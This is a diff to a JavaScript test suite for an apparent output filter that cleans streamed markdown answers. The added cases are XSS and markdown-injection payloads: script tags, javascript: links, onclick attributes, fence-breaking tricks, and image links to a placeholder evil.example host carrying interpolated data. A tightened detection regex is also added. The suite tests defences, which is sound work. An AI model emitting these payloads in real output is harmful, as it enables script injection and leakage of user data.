@@ -47,6 +47,13 @@ const joining = [
   "<script>(javascript:alert(1))",
   "<script>: javascript:alert(1)",
   "a@b.io(javascript:alert(1))",
+  `![a](${evil} "\`") <script>alert(1)</script> \``,
+  `https://evil.example/?q=${data}\` <script>alert(1)</script> \``,
+  `so <img alt="\n${fence}\n" src="${evil}"> x\n<script>alert(1)</script>\n${fence}`,
+  `so <img alt="\n${fence}\n" src="${evil}"> x\n![x]: javascript:y z](${evil})\n${fence}`,
+  `so <img alt="\n${fence}\n" src="${evil}"> x\n![x <b onclick="\n\n"> z](${evil})\n${fence}`,
+  `so <img alt="\n${fence}\n" src="${evil}"> x\n<img x="<b y="> onclick=1 "> " src="${evil}">\n${fence}`,
+  '[a](javascript:"`") <script>alert(1)</script> `',
 ];
 
 describe("an answer on its way through its guards", function () {
@@ -69,9 +76,19 @@ describe("an answer on its way through its guards", function () {
       for (const lengths of [[1], [2], [7], [400]]) {
         const out = (await throughGate(cut(text, lengths), output)).left.join("");
         expect(out, `${text}\n${out}`).to.not.match(
-          /!\[[^\]]*\]\((?:https|\/\/)|\]\(\/\/evil.example\/\?|\]\(javascript|\]: javascript|!\[EMAIL\][\s\S]*\]: https|\]: https[\s\S]*!\[EMAIL\]|!\[x\]\[|<script/u,
+          /!\[(?:(?!\n\n)[^\]])*\]\((?:https|\/\/)|\]\(\/\/evil.example\/\?|\]\(javascript|\]: javascript|!\[EMAIL\][\s\S]*\]: https|\]: https[\s\S]*!\[EMAIL\]|!\[x\]\[|<script|<img x="\[/u,
         );
+        if (text.includes("![x")) expect(out).to.not.match(/!\[x[^\]]*\[[^\]]*\][^\]]*\]\(https/u);
       }
+  });
+
+  it("keeps code beside what carries nothing", async () => {
+    const { output } = await testGates();
+    for (const text of [
+      "See https://example.com: use `<button onclick=x>`, or [this](https://example.com/a).\n",
+      `See [this](https://example.com).\n\n${fence}html\n<script>alert(1)</script>\n${fence}\n`,
+    ])
+      for (const lengths of [[1], [400]]) expect((await throughGate(cut(text, lengths), output)).left.join("")).to.equal(text);
   });
 
   it("is seen by a guard as the guards before left it", async () => {
